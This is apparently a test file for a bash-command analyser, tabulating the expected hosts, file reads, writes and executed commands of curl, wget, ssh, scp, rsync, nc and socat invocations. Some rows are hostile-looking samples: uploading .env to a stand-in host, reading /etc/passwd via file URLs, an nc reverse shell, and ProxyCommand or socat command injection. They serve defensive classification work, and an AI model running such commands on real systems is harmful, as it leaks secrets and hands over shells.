import { describe } from 'vitest'
import { network } from '../../../src/bash-parser/commands/network.ts'
import { remoteShells } from '../../../src/bash-parser/commands/ssh.ts'
import { transfers } from '../../../src/bash-parser/commands/transfer.ts'
import { type Row, testEffects, testEveryProgramHasARow } from './effects-table.ts'

const sent = { hosts: ['x.example'], changes: ['remote data'] }
const option = { doubt: 'unknown-option' }

const transferRows: Row[] = [
  ['curl --version', {}],
  ['curl -V', {}],
  ['curl --help', {}],
  ['curl https://X.example/a?b', { hosts: ['x.example'] }],
  ['curl x.example/a', { hosts: ['x.example'] }],
  ['curl -fsSL --max-time 5 https://x.example', { hosts: ['x.example'] }],
  ['curl https://a.example https://b.example', { hosts: ['a.example', 'b.example'] }],
  ['curl --url https://x.example', { hosts: ['x.example'] }],
  ['curl https://user:pw@x.example:8443/', { hosts: ['x.example'] }],
  ['curl https://x.example@y.example/', { hosts: ['y.example'] }],
  ['curl "https://{a,b}.example/"', { hosts: [null] }],
  ['curl "$URL"', { hosts: [null], reads: ['?'], doubt: 'dynamic-word' }],
  ['curl "https://x.example/$ID"', { hosts: ['x.example'] }],
  ['curl file:///etc/passwd', { reads: ['/etc/passwd'] }],
  ['curl FILE://localhost/etc/%70asswd', { reads: ['/etc/passwd'] }],
  ['curl file:/etc/passwd', { reads: ['/etc/passwd'] }],
  ['curl -o out https://x.example', { hosts: ['x.example'], writes: ['out'] }],
  ['curl -sSLoout https://x.example', { hosts: ['x.example'], writes: ['out'] }],
  ['curl --outp out https://x.example', { hosts: ['out', 'x.example'], ...option }],
  ['curl --output=out https://x.example', { hosts: ['x.example'], writes: ['out'] }],
  ['curl -o - https://x.example', { hosts: ['x.example'] }],
  ['curl -O "https://x.example/a/b.tgz?x"', { hosts: ['x.example'], writes: ['b.tgz'] }],
  ['curl -O https://x.example/a/b.tgz?x', { hosts: ['x.example'], writes: ['?'] }],
  ['curl -O --output-dir d https://x.example/b', { hosts: ['x.example'], writes: ['d/b'] }],
  ['curl -OJ https://x.example/b', { hosts: ['x.example'], writes: ['./**'] }],
  [
    'curl -c jar -D head --trace t --stderr e https://x.example',
    { hosts: ['x.example'], writes: ['jar', 'head', 'e', 't'] },
  ],
  ['curl -D - https://x.example', { hosts: ['x.example'] }],
  ["curl -w '%{http_code}' https://x.example", { hosts: ['x.example'] }],
  ["curl -w '%output{f}x' https://x.example", { hosts: ['x.example'], writes: ['f'] }],
  ['curl -d a=b https://x.example', sent],
  ['curl -d @.env https://x.example', { ...sent, reads: ['.env'] }],
  ['curl -d@.env https://x.example', { ...sent, reads: ['.env'] }],
  ['curl --data-binary @- https://x.example', sent],
  ['curl --data-raw @x https://x.example', sent],
  ['curl --data-urlencode k@.env https://x.example', { ...sent, reads: ['.env'] }],
  ['curl -d "$X" https://x.example', { ...sent, reads: ['?'] }],
  ["curl -F 'f=@.env;type=text/plain' https://x.example", { ...sent, reads: ['.env'] }],
  ["curl -F 'f=<.env' https://x.example", { ...sent, reads: ['.env'] }],
  ['curl -T .env https://x.example', { ...sent, reads: ['.env'] }],
  ['curl -H @heads https://x.example', { hosts: ['x.example'], reads: ['heads'] }],
  ['curl -b a=b https://x.example', { hosts: ['x.example'] }],
  ['curl -b jar https://x.example', { hosts: ['x.example'], reads: ['jar'] }],
  ['curl -X DELETE https://x.example', sent],
  ['curl -XGET https://x.example', { hosts: ['x.example'] }],
  ['curl -G -d a=b https://x.example', { hosts: ['x.example'] }],
  ['curl --cacert ca.pem -E me.pem https://x.example', { hosts: ['x.example'], reads: ['ca.pem', 'me.pem'] }],
  ['curl -K conf', option],
  ['curl -x proxy.example:3128 https://x.example', { hosts: ['proxy.example', 'x.example'] }],
  ['curl --resolve x.example:443:10.0.0.1 https://x.example', { hosts: ['x.example'], ...option }],
  ['curl --unix-socket /var/run/docker.sock http://x.example/', { hosts: ['x.example'], ...option }],
  ['curl --zzz https://x.example', { hosts: ['x.example'], ...option }],
  ['curl $OPTS https://x.example', { hosts: [null, 'x.example'], reads: ['?'], doubt: 'dynamic-word' }],
  ['wget --version', {}],
  ['wget https://x.example/a', { hosts: ['x.example'], writes: ['./**'] }],
  ['wget -qO- https://x.example/a', { hosts: ['x.example'] }],
  ['wget -q -O - https://x.example/a', { hosts: ['x.example'] }],
  ['wget -O out https://x.example/a', { hosts: ['x.example'], writes: ['out'] }],
  ['wget --output-document=out https://x.example/a', { hosts: ['x.example'], writes: ['out'] }],
  ['wget --output-d=out https://x.example/a', { hosts: ['x.example'], writes: ['out'] }],
  ['wget -nv -P d https://x.example/a', { hosts: ['x.example'], writes: ['d/**'] }],
  ['wget --spider https://x.example/a', { hosts: ['x.example'] }],
  ['wget -o log -O- https://x.example/a', { hosts: ['x.example'], writes: ['log'] }],
  ['wget -i urls -O-', { hosts: [null], reads: ['urls'] }],
  ['wget --post-file=.env -O- https://x.example/a', { ...sent, reads: ['.env'] }],
  ['wget -e use_proxy=yes -O- https://x.example/a', { hosts: ['x.example'], ...option }],
  ['wget --use-askpass=./x -O- https://x.example/a', { hosts: ['x.example'], ...option }],
  ['wget -r https://x.example/a', { hosts: ['x.example', null], writes: ['./**'] }],
]

const session = ['remote session']
const shellRows: Row[] = [
  ['ssh -V', {}],
  ['ssh x.example', { hosts: ['x.example'], changes: session }],
  ['ssh me@x.example rm -rf /tmp/a', { hosts: ['x.example'], changes: session, runs: ['remote sh: rm -rf /tmp/a'] }],
  [
    "ssh -p 22 -i key x.example 'ls; rm a'",
    { hosts: ['x.example'], reads: ['key'], changes: session, runs: ['remote sh: ls; rm a'] },
  ],
  ['ssh x.example -p 22 rm a', { hosts: ['x.example'], changes: session, runs: ['remote sh: rm a'] }],
  ['ssh x.example ls "$X"', { hosts: ['x.example'], changes: session, doubt: 'unknown-script' }],
  ['ssh -o StrictHostKeyChecking=no x.example', { hosts: ['x.example'], changes: session }],
  [
    "ssh -o ProxyCommand='rm a' x.example",
    { hosts: ['x.example'], changes: session, runs: ['sh: rm a'], doubt: 'runs' },
  ],
  [
    "ssh -oProxyCommand='rm a' x.example",
    { hosts: ['x.example'], changes: session, runs: ['sh: rm a'], doubt: 'runs' },
  ],
  [
    "ssh x.example -o 'localcommand rm a'",
    { hosts: ['x.example'], changes: session, runs: ['sh: rm a'], doubt: 'runs' },
  ],
  ['ssh -F conf x.example', { hosts: ['x.example'], changes: session, ...option }],
  ['ssh -J jump.example x.example', { hosts: ['jump.example', 'x.example'], changes: session }],
  ['ssh -L 1:h:2 x.example', { hosts: ['x.example'], changes: ['port forwarding', 'remote session'] }],
  ['ssh -E log x.example', { hosts: ['x.example'], writes: ['log'], changes: session }],
  ['scp .env me@x.example:/tmp', { hosts: ['x.example'], reads: ['.env/**'], changes: ['remote files'] }],
  ['scp x.example:/etc/a b', { hosts: ['x.example'], writes: ['b/**'] }],
  ['scp -r ./a:b out', { reads: ['./a:b/**'], writes: ['out/**'] }],
  ['scp -S ./x x.example:a b', { hosts: ['x.example'], writes: ['b/**'], runs: ['sh: ./x'], ...option }],
  [
    "scp -oProxyCommand='rm a' x.example:a b",
    { hosts: ['x.example'], writes: ['b/**'], runs: ['sh: rm a'], doubt: 'runs' },
  ],
  ['sftp x.example', { hosts: ['x.example'], doubt: 'unknown-script' }],
  ['sftp x.example:a b', { hosts: ['x.example'], writes: ['b/**'], doubt: 'unknown-script' }],
  ['sftp -b cmds x.example', { hosts: ['x.example'], reads: ['cmds'], doubt: 'unknown-script' }],
  ['rsync --version', {}],
  ['rsync -a src/ dst', { reads: ['src//**'], writes: ['dst/**'] }],
  ['rsync -an src/ dst', { reads: ['src//**'] }],
  ['rsync -an --no-dry-run src dst', { reads: ['src/**'], writes: ['dst/**'] }],
  ['rsync -a --delete src dst', { reads: ['src/**'], writes: ['dst/**'], deletes: ['dst/**'] }],
  ['rsync -a --remove-source-files src dst', { reads: ['src/**'], writes: ['dst/**'], deletes: ['src/**'] }],
  ['rsync -a src x.example:dst', { reads: ['src/**'], hosts: ['x.example'], changes: ['remote files'] }],
  ['rsync -a rsync://x.example/m dst', { hosts: ['x.example'], writes: ['dst/**'] }],
  ['rsync -a x.example::m dst', { hosts: ['x.example'], writes: ['dst/**'] }],
  [
    "rsync -e 'sh x' a h:b",
    { reads: ['a/**'], hosts: ['h'], runs: ['sh: sh x'], changes: ['remote files'], ...option },
  ],
  ['rsync -a --log-file=l src dst', { reads: ['src/**'], writes: ['l', 'dst/**'] }],
  ['rsync src', { reads: ['src/**'] }],
]

const networkRows: Row[] = [
  ['ping -c 1 x.example', { hosts: ['x.example'] }],
  ['ping -c1 -W2 x.example', { hosts: ['x.example'] }],
  ['traceroute x.example', { hosts: ['x.example'] }],
  ['dig +short x.example', { hosts: ['x.example'] }],
  ['dig @8.8.8.8 x.example MX', { hosts: ['8.8.8.8', 'x.example'] }],
  ['dig -f names', { hosts: [null], reads: ['names'] }],
  ['host x.example', { hosts: ['x.example'] }],
  ['nslookup -type=mx x.example', { hosts: ['x.example'] }],
  ['nslookup', { hosts: [null], doubt: 'unknown-script' }],
  ['whois x.example', { hosts: [null] }],
  ['whois -h whois.example x.example', { hosts: ['whois.example'] }],
  ['nc -z x.example 80', { hosts: ['x.example'] }],
  ['nc -l 80', { hosts: ['80'], changes: ['open port'] }],
  ["nc -e 'sh -i' x.example 1", { hosts: ['x.example'], runs: ['sh: sh -i'], ...option }],
  ['telnet x.example 23', { hosts: ['x.example'], doubt: 'unknown-script' }],
  ['ftp x.example', { hosts: ['x.example'], doubt: 'unknown-script' }],
  ["socat TCP:x.example:1 'EXEC:rm a'", { runs: ['sh: rm a'], doubt: 'runs' }],
]

describe('downloads', () => {
  testEffects(transfers, transferRows)
  testEveryProgramHasARow(transfers, transferRows)
})
describe('other machines', () => {
  testEffects(remoteShells, shellRows)
  testEveryProgramHasARow(remoteShells, shellRows)
})
describe('lookups and probes', () => {
  testEffects(network, networkRows)
  testEveryProgramHasARow(network, networkRows)
})
